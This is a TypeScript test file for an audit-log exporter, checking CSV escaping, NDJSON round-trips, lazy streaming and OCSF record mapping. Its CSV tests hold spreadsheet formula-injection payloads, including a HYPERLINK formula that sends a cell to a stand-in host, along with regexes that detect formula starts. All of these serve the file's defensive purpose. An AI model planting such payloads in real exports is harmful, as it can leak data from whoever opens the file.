import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/lineage/export/csv.ts';
import { toNdjson } from '../../../src/lineage/export/ndjson.ts';
import { ocsfRecord, toOcsf } from '../../../src/lineage/export/ocsf.ts';
import type { AuditEntry, EntryContent } from '../../../src/operation/entry.ts';
import { entriesOf, moved } from '../entries.ts';
import { anyEntries, collect } from './samples.ts';

/** A reader of RFC 4180 by its grammar. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (field.lastIndex < text.length) {
    const match = field.exec(text);
    if (match === null) throw new Error('no CSV');
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** What a spreadsheet takes for the beginning of a formula. */
const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r\n]/;
/** The same where cells are separated by semicolons or tabs, and quotes are none. */
const FORMULA_ELSEWHERE = /[;\t\r\n]"*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('CSV', () => {
  it('is read back as it was written, whatever the text, and holds no formula', async () => {
    await fc.assert(
      fc.asyncProperty(anyEntries, async (entries) => {
        const text = await collect(toCsv(entries));
        expect(text).not.toMatch(FORMULA_ELSEWHERE);
        const [header = [], ...rows] = parseCsv(text);
        expect(rows).toHaveLength(entries.length);
        for (const [i, entry] of entries.entries()) {
          const row = Object.fromEntries(header.map((name, column) => [name, rows[i]?.[column] ?? '']));
          expect(Object.values(row).filter((cell) => FORMULA.test(cell))).toEqual([]);
          const tenant = entry.correlation?.tenant ?? '';
          const isPlain = !FORMULA.test(tenant) && !FORMULA_ELSEWHERE.test(tenant);
          expect(row.tenant?.replaceAll("'", '')).toBe(tenant.replaceAll("'", ''));
          if (isPlain) expect(row.tenant).toBe(tenant);
          expect(row.inputs === '' ? undefined : JSON.parse(row.inputs as string)).toEqual(entry.inputs);
          expect([row.index, row.hash]).toEqual([String(entry.index), entry.hash]);
        }
      }),
    );
  });

  it('has each hash as it is, so that it can be looked up, and an apostrophe before every beginning of a formula', async () => {
    const hash = '+wmc0L9oKBMWTJnSjQBIMZnCZfhFuBpUN1u1ztkT1t4=';
    const texts = [
      '=1',
      '+1',
      '-1',
      '@A1',
      '\t=1',
      '\r=1',
      '\n=1',
      '\uFF1D1',
      '\uFF0B1',
      '\uFF0D1',
      '\uFF20A1',
    ];
    const entries = entriesOf(texts.map((reason) => ({ reason }))).map((entry) => ({ ...entry, hash }));
    const [header = [], ...rows] = parseCsv(await collect(toCsv(entries)));
    const behind = /^([\t\r\n])=/;
    expect(rows.map((row) => row[header.indexOf('reason')])).toEqual(
      texts.map((text) => `'${text.replace(behind, "$1'=")}`),
    );
    expect(rows.map((row) => row[header.indexOf('hash')])).toEqual(texts.map(() => hash));
  });

  it('begins no formula behind a semicolon or a tab, where a spreadsheet of another locale begins a cell', async () => {
    const attributes = { note: 'a;=1', quoted: ';"+1', minus: 'a; -1' };
    const texts = ['x;=HYPERLINK("http://x/?"&A1)', 't\t=1+1', 'n\n@A1', ';"=1"', ';;＝1', 'a;b=c', '1;2'];
    const entries = entriesOf(texts.map((reason) => ({ reason, attributes })));
    const text = await collect(toCsv(entries));
    expect(text).not.toMatch(FORMULA_ELSEWHERE);
    const [header = [], ...rows] = parseCsv(text);
    expect(rows.map((row) => row[header.indexOf('reason')])).toEqual([
      'x;\'=HYPERLINK("http://x/?"&A1)',
      "t\t'=1+1",
      "n\n'@A1",
      ';"\'=1"',
      ";;'＝1",
      'a;b=c',
      '1;2',
    ]);
    for (const row of rows)
      expect(JSON.parse(row[header.indexOf('attributes')] as string)).toEqual(attributes);
  });

  it('has a header even when there is nothing else, and names sealed text', async () => {
    expect(await collect(toCsv([]))).toMatch(/^index,time,action,.*,hash\r\n$/);
    const actor = { id: { $sealed: 'AAAA', subject: 'p1' } };
    expect(await collect(toCsv(entriesOf([{ actor }])))).toContain(',sealed:p1,');
  });
});

describe('NDJSON', () => {
  it('is read back as the entries', async () => {
    await fc.assert(
      fc.asyncProperty(anyEntries, async (entries) => {
        const lines = (await collect(toNdjson(entries))).split('\n').slice(0, -1);
        expect(lines.map((line) => JSON.parse(line))).toEqual(entries);
      }),
    );
  });
});

describe('an export', () => {
  it('is made while it is read, and no sooner', async () => {
    let made = 0;
    async function* endless(): AsyncGenerator<AuditEntry> {
      const [entry] = entriesOf([{}]);
      for (;;) {
        made++;
        yield { ...(entry as AuditEntry), index: made };
      }
    }
    for (const chunks of [toCsv, toNdjson, toOcsf].map((format) => format(endless()))) {
      made = 0;
      expect(made).toBe(0);
      await chunks.next();
      const first = made;
      expect(first).toBeLessThan(500);
      await new Promise(setImmediate);
      expect(made).toBe(first);
      await chunks.return();
    }
  });
});

describe('an OCSF record', () => {
  const record = (more: Partial<EntryContent>) => ocsfRecord(entriesOf([more])[0] as AuditEntry);

  it('is of class API Activity, with ids that agree', async () => {
    await fc.assert(
      fc.asyncProperty(anyEntries, async (entries) => {
        const lines = (await collect(toOcsf(entries))).split('\n').slice(0, -1);
        for (const line of lines) {
          const { class_uid, category_uid, activity_id, type_uid, time, severity_id, metadata } =
            JSON.parse(line);
          expect([class_uid, category_uid]).toEqual([6003, 6]);
          expect([0, 1, 2, 3, 4, 99]).toContain(activity_id);
          expect(type_uid).toBe(600_300 + activity_id);
          expect([1, 2, 3]).toContain(severity_id);
          expect(Number.isInteger(time)).toBe(true);
          expect(metadata.version).toBe('1.4.0');
        }
      }),
    );
  });

  it('tells the activity by the last word of the action', () => {
    const activity = (action: string) => record({ action }).activity_name;
    expect(['orders.place', 'users.add-role', 'x.created'].map(activity)).toEqual([
      'Create',
      'Create',
      'Create',
    ]);
    expect(['report.export', 'GetUser', 'search'].map(activity)).toEqual(['Read', 'Read', 'Read']);
    expect(['orders.refund', 'a.update', 'settings.set'].map(activity)).toEqual([
      'Update',
      'Update',
      'Update',
    ]);
    expect(['users.erase', 'a.remove_all'].map(activity)).toEqual(['Delete', 'Delete']);
    const own = ['audit.subject.erased', 'audit.journal.pruned', 'orders.cancelled', 'tables.dropped'];
    expect(own.map(activity)).toEqual(['Delete', 'Delete', 'Update', 'Delete']);
    for (const word of ['address', 'addendum', 'readmit', 'settle', 'clearance', 'newsletter', 'newly']) {
      expect(record({ action: `x.${word}` })).toMatchObject({ activity_id: 99, activity_name: word });
    }
    const ends = ['addRole', 'AddRole', 'ADD_ROLE', 'ADD', 'add-role', 'add2', 'ADDRole'];
    expect(ends.map((word) => activity(`users.${word}`))).toEqual(ends.map(() => 'Create'));
    expect(record({ action: 'login' })).toMatchObject({
      activity_id: 99,
      activity_name: 'login',
      type_uid: 600_399,
    });
  });

  it('has actor, api, resources, status and times where OCSF looks for them', () => {
    expect(
      record({
        ...moved(['in@1'], ['out']),
        action: 'orders.refund',
        actor: { id: 'user:7', type: 'user', name: 'Ada', address: '10.0.0.1' },
        target: { id: 'order:9', type: 'order' },
        outcome: 'failure',
        error: { type: 'TypeError', message: 'no' },
        correlation: { traceId: 't', tenant: 'acme', requestId: 'r1' },
        startTime: '2026-11-25T11:59:59.000Z',
        durationMillis: 12.6,
        reason: 'ticket 7',
      }),
    ).toMatchObject({
      time: Date.UTC(2026, 10, 25, 12),
      start_time: Date.UTC(2026, 10, 25, 11, 59, 59),
      duration: 13,
      message: 'ticket 7',
      status_id: 2,
      status: 'Failure',
      status_code: 'TypeError',
      status_detail: 'no',
      severity_id: 2,
      actor: { user: { uid: 'user:7', name: 'Ada', type_id: 1 } },
      api: { operation: 'orders.refund', service: { name: 'orders' }, request: { uid: 'r1' } },
      src_endpoint: { ip: '10.0.0.1' },
      resources: [
        { uid: 'order:9', type: 'order' },
        { namespace: 'ns', name: 'in', version: '1', type: 'dataset', data: { role: 'input' } },
        { namespace: 'ns', name: 'out', data: { role: 'output' } },
      ],
      metadata: { uid: 'hash0', sequence: 0, correlation_uid: 't', tenant_uid: 'acme' },
    });
    expect(record({ actor: { id: 'cron', type: 'service' } }).actor).toEqual({ app_uid: 'cron' });
  });
});
